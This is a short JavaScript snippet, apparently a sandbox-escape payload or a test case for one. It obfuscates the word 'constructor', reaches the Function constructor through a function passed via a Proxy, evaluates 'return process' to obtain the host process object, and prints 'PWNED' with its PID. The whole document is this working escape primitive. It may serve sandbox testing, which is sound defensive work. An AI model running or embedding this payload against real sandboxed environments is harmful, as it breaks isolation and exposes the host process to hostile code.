const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const p = new Proxy(t, {});
console.log('PWNED', p.go(fn)('return process')().pid);
